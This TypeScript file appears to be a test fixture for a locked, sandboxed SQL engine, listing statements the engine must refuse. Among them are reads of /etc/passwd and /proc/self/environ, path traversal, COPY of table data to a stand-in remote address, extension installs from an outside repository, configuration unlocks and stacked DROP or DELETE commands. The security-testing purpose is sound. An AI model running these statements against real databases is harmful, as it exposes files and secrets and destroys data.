export type AttackKind = 'read' | 'write' | 'attach' | 'address' | 'extension' | 'lock' | 'stacked';

/** One attack on the engine: statements run in order; it is refused when one of them is rejected. */
export interface SqlAttack {
  kind: AttackKind;
  name: string;
  statements: string[];
}

const attacks = (kind: AttackKind, list: [name: string, ...statements: string[]][]): SqlAttack[] => list.map(([name, ...statements]) => ({ kind, name, statements }));

/**
 * Statements that would read, write, fetch, extend or unlock; every one must be refused by a locked engine.
 * `bait` is a readable .csv file, `loot` a place where nothing stands (both with forward slashes).
 */
export const listSqlAttacks = (bait: string, loot: string): SqlAttack[] => [
  ...attacks('read', [
    ['read_text', `SELECT * FROM read_text('${bait}')`],
    ['read_blob', `SELECT * FROM read_blob('${bait}')`],
    ['read_csv', `SELECT * FROM read_csv('${bait}')`],
    ['read_csv_auto', `SELECT * FROM read_csv_auto('${bait}', ignore_errors = true)`],
    ['sniff_csv', `SELECT * FROM sniff_csv('${bait}')`],
    ['glob', "SELECT * FROM glob('/etc/*')"],
    ['glob of the engine’s own files', "SELECT * FROM glob('*')"],
    ['a file as a table', `SELECT * FROM '${bait}'`],
    ['a Parquet file as a table', "SELECT * FROM '/etc/any.parquet'"],
    ['read_parquet', "SELECT * FROM read_parquet('/etc/any.parquet')"],
    ['parquet_metadata', "SELECT * FROM parquet_metadata('/etc/any.parquet')"],
    ['read_json', `SELECT * FROM read_json('${bait}')`],
    ['read_json_auto', `SELECT * FROM read_json_auto('${bait}')`],
    ['read_ndjson', `SELECT * FROM read_ndjson_objects('${bait}')`],
    ['a list of files', `SELECT * FROM read_text(['${bait}', '/etc/passwd'])`],
    ['a parent folder', "SELECT * FROM read_text('../../../../../../../../etc/hosts')"],
    ['a file address', `SELECT * FROM read_text('file://${bait}')`],
    ['a device', "SELECT * FROM read_blob('/dev/null')"],
    ['the process', "SELECT * FROM read_text('/proc/self/environ')"],
    ['query() around a read', `SELECT * FROM query('SELECT * FROM read_text(''${bait}'')')`],
    ['query_table of a file', `SELECT * FROM query_table('${bait}')`],
    ['a view over a file', `CREATE VIEW stolen AS SELECT * FROM read_text('${bait}')`],
    ['a table from a file', `CREATE TABLE stolen AS SELECT * FROM read_text('${bait}')`],
    ['a macro over a file', `CREATE OR REPLACE MACRO steal() AS TABLE SELECT * FROM read_text('${bait}')`, 'SELECT * FROM steal()'],
    ['a variable out of a file', `SET VARIABLE stolen = (SELECT content FROM read_text('${bait}'))`],
    ['an insert out of a file', `INSERT INTO keep SELECT size FROM read_text('${bait}')`],
    ['a prepared read', `PREPARE steal AS SELECT * FROM read_text('${bait}')`, 'EXECUTE steal'],
    ['an explained read', `EXPLAIN ANALYZE SELECT * FROM read_text('${bait}')`],
    ['a pivot over a file', `PIVOT (SELECT * FROM read_text('${bait}')) ON filename USING count(*)`],
  ]),
  ...attacks('write', [
    ['COPY TO a file', `COPY (SELECT 1 AS one) TO '${loot}.csv'`],
    ['COPY a table TO a file', `COPY keep TO '${loot}.csv' (HEADER)`],
    ['COPY TO Parquet', `COPY keep TO '${loot}.parquet' (FORMAT parquet)`],
    ['COPY FROM a file', `COPY keep FROM '${bait}'`],
    ['COPY partitioned', `COPY (SELECT one, one AS two FROM keep) TO '${loot}' (FORMAT csv, PARTITION_BY (two))`],
    ['EXPORT DATABASE', `EXPORT DATABASE '${loot}'`],
    ['IMPORT DATABASE', `IMPORT DATABASE '${loot}'`],
    ['a profile into a file', `PRAGMA profiling_output='${loot}.json'`],
    ['a log into a file', `PRAGMA log_query_path='${loot}.log'`],
    ['a folder for spilling', `SET temp_directory='${loot}'`],
  ]),
  ...attacks('attach', [
    ['ATTACH a file', `ATTACH '${loot}.db' AS other`],
    ['ATTACH read only', `ATTACH '${bait}' AS other (READ_ONLY)`],
  ]),
  ...attacks('address', [
    ['ATTACH an address', "ATTACH 'https://example.invalid/a.db' AS other"],
    ['a table at an address', "SELECT * FROM 'https://example.invalid/a.csv'"],
    ['read_text of an address', "SELECT * FROM read_text('https://example.invalid/a')"],
    ['read_csv of S3', "SELECT * FROM read_csv('s3://bucket/a.csv')"],
    ['COPY TO an address', "COPY keep TO 'https://example.invalid/loot.csv'"],
    ['a secret', "CREATE SECRET leak (TYPE s3, KEY_ID 'a', SECRET 'b')"],
    ['a lasting secret', "CREATE PERSISTENT SECRET leak (TYPE http, BEARER_TOKEN 'a')"],
  ]),
  ...attacks('extension', [
    ['ATTACH SQLite', `ATTACH '${loot}.sqlite' AS other (TYPE sqlite)`],
    ['ATTACH Postgres', "ATTACH 'host=127.0.0.1 dbname=x' AS other (TYPE postgres)"],
    // Installing by itself does nothing in WebAssembly and asks nobody; what counts is that nothing is loaded.
    ['INSTALL', 'INSTALL httpfs', 'LOAD httpfs'],
    ['INSTALL from an address', "INSTALL spatial FROM 'http://example.invalid/extensions'", 'LOAD spatial'],
    ['FORCE INSTALL', 'FORCE INSTALL json', 'LOAD json'],
    ['LOAD by name', 'LOAD json'],
    ['LOAD by path', `LOAD '${loot}.duckdb_extension'`],
    ['UPDATE EXTENSIONS', 'UPDATE EXTENSIONS'],
  ]),
  ...attacks('lock', [
    ['files again', 'SET enable_external_access=true'],
    ['files again, global', 'SET GLOBAL enable_external_access=true'],
    ['files again by RESET', 'RESET enable_external_access'],
    ['files again by PRAGMA', 'PRAGMA enable_external_access=true'],
    ['unlock', 'SET lock_configuration=false'],
    ['unlock by RESET', 'RESET lock_configuration'],
    ['a folder allowed', "SET allowed_directories=['/etc/']"],
    ['a path allowed', `SET allowed_paths=['${bait}']`],
    ['loading by itself', 'SET autoload_known_extensions=true'],
    ['installing by itself', 'SET autoinstall_known_extensions=true'],
    ['unsigned extensions', 'SET allow_unsigned_extensions=true'],
    ['another repository', "SET custom_extension_repository='http://example.invalid'"],
    ['more memory', "SET memory_limit='100GB'"],
    ['more memory by RESET', 'RESET memory_limit'],
    ['threads', 'SET threads=64'],
  ]),
  ...attacks('stacked', [
    ['stacked', 'SELECT 1; DROP TABLE keep'],
    ['stacked in the middle', 'SELECT 1; DROP TABLE keep; SELECT 2'],
    ['stacked behind a comment', 'SELECT 1 --\n; DELETE FROM keep'],
    ['stacked behind a block comment', 'SELECT 1 /* */; UPDATE keep SET one = 2'],
    ['stacked unlock', `SELECT 1; SET lock_configuration=false; SELECT * FROM read_text('${bait}')`],
  ]),
];

/**
 * The lock does not refuse this statement itself: it accepts the place and then refuses to write there, with
 * every later statement. Nothing leaves the engine, but the engine is lost until it is made anew.
 */
export const loggingAttack = (loot: string): string => `CALL enable_logging(storage = 'file', storage_config = {'path': '${loot}'})`;
